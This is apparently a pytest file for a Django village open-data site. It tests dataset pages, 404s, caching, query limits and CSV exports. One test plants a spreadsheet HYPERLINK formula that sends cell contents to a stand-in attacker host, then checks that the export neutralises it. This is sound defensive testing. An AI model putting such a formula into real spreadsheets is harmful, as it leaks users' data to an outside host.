"""The /data/ pages people read: a village's list, a dataset's metadata and first rows, the
district's list; small, cacheable, bounded in queries, and the CSV keeps formulas inert."""

from __future__ import annotations

import pytest

from balai.market.models import Product
from balai.opendata.catalogue import village_catalogue
from balai.villages.models import Village

pytestmark = pytest.mark.django_db


def test_the_village_lists_its_datasets(demo, client):
    page = client.get("/desa/dagan/data/")
    html = page.content.decode()
    assert page.status_code == 200 and len(page.content) < 60_000
    for key in ("penduduk-kategori", "apbdes", "pembangunan", "bansos", "laporan-ppid", "produk"):
        assert f'href="/desa/dagan/data/{key}/"' in html
        assert f'href="/desa/dagan/data/{key}.csv"' in html
    assert "Creative Commons Attribution 4.0" in html and "katalog.ttl" in html
    assert (
        '<link rel="alternate" type="application/ld+json" href="/desa/dagan/data/katalog.jsonld"'
        in html
    )
    assert page["Cache-Control"].startswith("public") and page["ETag"]


def test_a_dataset_page_shows_metadata_dictionary_and_first_rows(
    demo, client, django_assert_max_num_queries
):
    client.get("/desa/dagan/")  # routing and menu caches, as any visitor finds them
    with django_assert_max_num_queries(25):
        page = client.get("/desa/dagan/data/apbdes/")
    html = page.content.decode()
    dagan = Village.objects.get(slug="dagan")
    assert dagan.region_id in html and "dagan-apbdes" in html
    assert "<code>kode_rekening</code>" in html  # the data dictionary
    assert html.count("<tr>") >= 20 + 11  # 20 preview rows, 11 dictionary rows
    assert "Bulanan" in html and "Pemerintahan dan sektor publik" in html


def test_unknown_datasets_and_villages_without_data_are_404(demo, client):
    assert client.get("/desa/dagan/data/tidak-ada/").status_code == 404
    assert client.get("/desa/dagan/data/tidak-ada.csv").status_code == 404
    assert client.get("/data/pembangunan/").status_code == 404  # a village dataset only
    quiet = [v for v in Village.objects.filter(status="live") if not village_catalogue(v).entries]
    assert quiet  # the demo's freshly provisioned sites
    assert client.get(f"/desa/{quiet[0].slug}/data/").status_code == 404
    assert client.get(f"/desa/{quiet[0].slug}/data/katalog.ttl").status_code == 404


def test_the_district_page_lists_its_datasets_and_the_villages(demo, client):
    html = client.get("/data/").content.decode()
    assert 'href="/data/penduduk-kategori/"' in html and 'href="/data/apbdes.json"' in html
    assert "Desa Dagan" in html and "/api/3/action/package_list" in html
    page = client.get("/data/apbdes/")
    assert page.status_code == 200 and "kabupaten-apbdes" in page.content.decode()


def test_downloads_are_formula_safe_utf8_with_a_bom(demo, client):
    product = Product.objects.filter(village__slug="dagan", status="published").first()
    product.name = '=HYPERLINK("http://jahat.example/?"&A2)'
    product.save()
    response = client.get("/desa/dagan/data/produk.csv")
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf") and response["Content-Type"].startswith("text/csv")
    assert '"\'=HYPERLINK(""http://jahat.example/?""&A2)"' in body.decode("utf-8-sig")
    dictionary = client.get("/desa/dagan/data/produk-kamus.csv").content.decode("utf-8-sig")
    assert dictionary.splitlines()[0] == "kolom,label,tipe,keterangan"
    assert "toko,Nama usaha,string" in dictionary
